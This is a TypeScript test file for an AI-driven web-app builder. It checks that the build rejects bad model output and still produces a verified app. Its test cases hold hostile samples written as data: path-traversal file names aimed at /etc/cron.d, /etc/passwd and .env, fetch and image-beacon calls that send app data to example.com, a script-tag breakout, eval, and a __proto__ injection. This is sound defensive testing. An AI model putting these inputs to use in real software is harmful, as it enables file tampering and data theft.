import { describe, expect, test } from 'vitest';
import { embeddedBuilder } from '../../../../src/factory/embedded-builder.ts';
import { verifyApp } from '../../../../src/factory/verify/verify.ts';
import { carryOut, noticesIn, outline } from '../../../helpers/factory-build.ts';
import { boundaryIn, kindOf, questionsTo, type VendorAct } from '../../../helpers/vendor-answers.ts';
import { openAiFixture } from '../../../helpers/vendor-fixtures.ts';
import { changed, marketFiles, marketSpec, modelSetup, written } from './market-app.ts';

const withPlan = "; the app is made from a template, with the model's plan.";
const byRules = '; the app is planned by rules and made from a template.';

/** What the model does when it is asked to write, and when it is asked to repair. */
interface Bad {
  readonly write: (boundary: string) => VendorAct;
  readonly repair?: (boundary: string) => VendorAct;
  readonly asked: string;
  readonly notice: string | null;
}

const page = (from: string, to: string) => changed('index.html', from, to);
const script = (to: string) => changed('src/app.js', 'function draw() {', `${to}\nfunction draw() {`);
const inBody = (html: string) => page('<main>', `${html}<main>`);

/** Files that the checks refuse, round after round. */
function refused(files: Record<string, string>): Bad {
  return {
    write: (boundary) => written(files, boundary),
    asked: 'plan write repair',
    notice: `The model could not repair its files${withPlan}`,
  };
}

const sent = (text: string, asked = 'plan write', notice = 'The model sent no files'): Bad => ({
  write: () => text,
  asked,
  notice: `${notice}${withPlan}`,
});

const cases: Record<string, Bad> = {
  'prose instead of files': sent('I would love to help! First, which colours do you like?'),
  'a refusal': sent("I can't help with that."),
  'an empty answer': sent(''),
  'the wrong form': sent('--- a/src/app.js\n+++ b/src/app.js\n@@ -1 +1 @@\n-let a\n+let b'),
  'the wrong language': sent(
    "```python\nimport tkinter\n\ntkinter.Tk().mainloop()\n```\n=== FILE app.py\nprint('x')\n=== END",
  ),
  'a filtered answer': {
    write: () => ({ text: 'I', finish: 'content_filter' }),
    asked: 'plan write',
    notice: `The model declined to answer${withPlan}`,
  },
  'an answer that never comes to an end': {
    write: (boundary) => ({ text: written(marketFiles, boundary).slice(0, 900), finish: 'length' }),
    asked: 'plan write continue continue',
    notice: `The model did not bring its files to an end${withPlan}`,
  },
  'only some of the files': {
    write: (boundary) => written({ 'index.html': marketFiles['index.html'] ?? '' }, boundary),
    asked: 'plan write continue continue',
    notice: `The model did not bring its files to an end${withPlan}`,
  },
  'files outside of the spec': sent(
    ['../../../etc/cron.d/x', '/etc/passwd', 'src/../../x.js', 'C:\\x.js', 'src/other.js', '.env']
      .map((path) => `=== FILE ${path}\nx\n=== END`)
      .join('\n'),
  ),
  'a way out of the script': refused(inBody('<script>alert("</script>")</script>')),
  'a call to the network': refused(script("fetch('https://example.com/' + recall('things', ''));")),
  'a hidden call to the network': refused(script("new Image().src = 'https://example.com/?' + things;")),
  'a library from elsewhere': refused(inBody('<script src="https://cdn.example.com/x.js"></script>')),
  'a package': refused(script("import confetti from 'confetti';")),
  'made-up code': refused(script("eval('draw()');")),
  'a file of the host': refused(script("import secret from '/etc/hostname';")),
  'a path that is made up at run time': refused(script("import('./' + things[0] + '.json');")),
  'a page in the page': refused(inBody('<iframe srcdoc="x" title="x"></iframe>')),
  'a page in another language': refused(page('lang="en"', 'lang="fr"')),
  'a gap': refused(changed('src/app.js', 'draw();\n', '// ... rest of the code\n')),
  'a file that is too large': {
    write: (boundary) =>
      written(
        { ...marketFiles, 'src/app.css': `${'/* x */\n'.repeat(40_000)}${marketFiles['src/app.css']}` },
        boundary,
      ),
    asked: 'plan write',
    notice: `The build has used up the tokens that it may take${withPlan}`,
  },
  'other mistakes in each round': {
    write: (boundary) => written(script('first();'), boundary),
    repair: (boundary) => written(script('second();'), boundary),
    asked: 'plan write repair repair',
    notice: `The model could not repair its files${withPlan}`,
  },
  'no files in a repair': {
    write: (boundary) => written(script('first();'), boundary),
    repair: () => 'I have fixed it. It should work now!',
    asked: 'plan write repair',
    notice: `The model sent no files${withPlan}`,
  },
};

describe('whatever the model writes, the build ends with a working app', () => {
  test.each(Object.entries(cases))('%s', async (_name, { write, repair = write, asked, notice }) => {
    const { gateway, build } = await modelSetup({
      act: (question) => {
        const kind = kindOf(question);
        if (kind === 'plan') return null;
        const boundary = boundaryIn(question);
        return kind === 'repair'
          ? repair(boundary)
          : kind === 'continue'
            ? continued(write(boundary))
            : write(boundary);
      },
    });
    const { app, reports } = await build();
    expect(questionsTo(gateway.vendor)).toBe(asked);
    expect(noticesIn(reports)).toEqual([notice]);
    expect(app.spec.name).toBe('Market Day');
    expect((await verifyApp(app.files, app.spec)).passed).toBe(true);
    expect(app.html).not.toMatch(/example\.com|etc\/|confetti|tkinter/);
    expect(
      [...app.files.keys()].every((path) => /^(?:README\.md|index\.html|src\/[a-z0-9/.-]+)$/.test(path)),
    ).toBe(true);
    const files = reports.filter((report) => report.type === 'file').slice(-app.files.size);
    expect(files.map(({ path }) => path)).toEqual([...app.files.keys()]);
    expect(outline(reports).endsWith('verifying packaging')).toBe(true);
  });

  const continued = (act: VendorAct): VendorAct =>
    typeof act === 'object' ? { text: 'x'.repeat(50), finish: 'length' } : act;
});

describe('the best candidate is kept', () => {
  test('a repair that makes it worse is not built upon', async () => {
    const one = script('first();');
    const three = script('second();\nthird();\nfourth();');
    const { gateway, build } = await modelSetup({
      act: (question, index) => {
        if (index === 1) return written(one, boundaryIn(question));
        return index === 2 ? written(three, boundaryIn(question)) : null;
      },
    });
    const { app, reports } = await build();
    expect(questionsTo(gateway.vendor)).toBe('plan write repair repair');
    const last = JSON.stringify(gateway.vendor.requests[3]?.json);
    expect(last).toContain('first is not defined');
    expect(last).not.toContain('second');
    expect(Object.fromEntries(app.files)).toMatchObject(marketFiles);
    expect(
      reports.flatMap((report) => (report.type === 'repaired' ? [[report.fixed, report.remaining]] : [])),
    ).toEqual([
      [1, 3],
      [1, 0],
    ]);
  });

  test('a page that holds everything is taken apart and used', async () => {
    const lone = (marketFiles['index.html'] ?? '')
      .replace('<link rel="stylesheet" href="src/app.css">', `<style>${marketFiles['src/app.css']}</style>`)
      .replace(
        '<script type="module" src="src/app.js">',
        `<script type="module">${marketFiles['src/app.js']}`,
      );
    const { build } = await modelSetup({
      act: (question) => (kindOf(question) === 'write' ? `Here it is:\n\`\`\`html\n${lone}\`\`\`` : null),
    });
    const { app, reports } = await build();
    expect(noticesIn(reports)).toEqual([]);
    expect(app.files.get('src/app.js')).toBe(`${marketFiles['src/app.js']?.trim()}\n`);
  });
});

describe('plans', () => {
  const spec = marketSpec.spec;
  const usable: Record<string, unknown> = {
    'in a fence, with words around it': `Of course!\n\`\`\`json\n${JSON.stringify(marketSpec, null, 2)}\n\`\`\`\nShall I go on?`,
    'the spec alone': JSON.stringify(spec),
    'without what is empty': JSON.stringify({
      ...marketSpec,
      spec: Object.fromEntries(
        Object.entries({ ...spec, palette: { ...spec.palette, accent: '#1F8A5B' } }).filter(
          ([name, value]) => name !== 'v' && JSON.stringify(value) !== '[]' && JSON.stringify(value) !== '{}',
        ),
      ),
    }),
    'with files that lead elsewhere': JSON.stringify({
      spec,
      files: [{ path: '../x.js', purpose: 'x' }, { path: 'src/theme.css' }, 7],
    }),
  };
  test.each(Object.entries(usable))('usable: %s', async (_name, answer) => {
    const { build } = await modelSetup({
      act: (question) => (['plan', 'correct'].includes(kindOf(question)) ? String(answer) : null),
    });
    const { app, reports } = await build();
    expect(noticesIn(reports)).toEqual([]);
    expect(app.spec).toEqual(spec);
    expect(app.files.has('src/app.js')).toBe(true);
  });

  const useless: Record<string, VendorAct> = {
    prose: 'What a lovely idea! Let us begin.',
    'half of it': JSON.stringify(marketSpec).slice(0, 500),
    'another shape': '{"app": "list"}',
    'too large': JSON.stringify({
      ...marketSpec,
      spec: { ...spec, seed: Array(40).fill({ f0: 'x'.repeat(300), f1: 'x'.repeat(300) }) },
    }),
    'a field for the prototype': JSON.stringify(marketSpec).replace('"f0":"Leeks"', '"__proto__":"Leeks"'),
    empty: '',
  };
  test.each(Object.entries(useless))('of no use, also when corrected: %s', async (_name, answer) => {
    const { gateway, build } = await modelSetup({ act: () => answer });
    const { app, reports } = await build();
    expect(questionsTo(gateway.vendor)).toBe('plan correct');
    expect(noticesIn(reports)).toEqual([`The model gave no plan that can be used${byRules}`]);
    expect(app.package.sha256).toBe((await carryOut(embeddedBuilder)).app.package.sha256);
  });

  test('corrected once', async () => {
    const wrong = { ...marketSpec, spec: { ...spec, variant: 'spreadsheet', lang: 'tlh' } };
    const { gateway, build } = await modelSetup({
      act: (question) => (kindOf(question) === 'plan' ? JSON.stringify(wrong) : null),
    });
    const { reports } = await build();
    expect(noticesIn(reports)).toEqual([]);
    expect(questionsTo(gateway.vendor)).toBe('plan correct write');
    expect(JSON.stringify(gateway.vendor.requests[1]?.json)).toContain('/lang must be equal to one of');
  });

  test('that suit no template lead to the rules', async () => {
    const { build } = await modelSetup({
      act: (question) => (kindOf(question) === 'write' ? 'No.' : null),
      workshop: {
        render: (() => {
          let calls = 0;
          return async (asked) => {
            const { renderApp } = await import('../../../../src/factory/render/render.ts');
            if (asked.name === 'Market Day' && calls++ > 0) throw new Error('inner details');
            return renderApp(asked);
          };
        })(),
      },
    });
    const { app, reports } = await build();
    expect(noticesIn(reports)).toEqual([
      `The model sent no files${withPlan}`,
      `What the model made did not pass the checks${byRules}`,
    ]);
    expect(outline(reports)).toBe(
      'planning spec generating notice spec notice planning spec generating verifying packaging',
    );
    expect(JSON.stringify(reports)).not.toContain('inner details');
    expect(app.package.sha256).toBe((await carryOut(embeddedBuilder)).app.package.sha256);
  });
});

describe('when the vendor fails midway', () => {
  test('what had come is kept and continued', async () => {
    const { gateway, build } = await modelSetup({
      act: (question, index) => {
        const whole = written(marketFiles, boundaryIn(question));
        const middle = whole.indexOf('text-decoration');
        if (index === 1)
          return (reply) =>
            reply.events(
              openAiFixture.beforeText,
              openAiFixture.delta(whole.slice(0, middle)),
              openAiFixture.errorEvent('server_error', 'inner secrets of the vendor'),
            );
        return index === 2 ? whole.slice(middle) : null;
      },
    });
    const { app, reports } = await build();
    expect(questionsTo(gateway.vendor)).toBe('plan write continue');
    expect(noticesIn(reports)).toEqual([]);
    expect(Object.fromEntries(app.files)).toMatchObject(marketFiles);
    expect(JSON.stringify(reports)).not.toContain('inner secrets');
  });

  test('a vendor that is gone after the spec leaves the spec to a template', async () => {
    const { build } = await modelSetup({
      act: (_question, index) => (index === 0 ? null : (reply) => reply.reset()),
    });
    const { app, reports } = await build();
    expect(noticesIn(reports)).toEqual([`The model could not be reached${withPlan}`]);
    expect(app.spec.name).toBe('Market Day');
  });
});
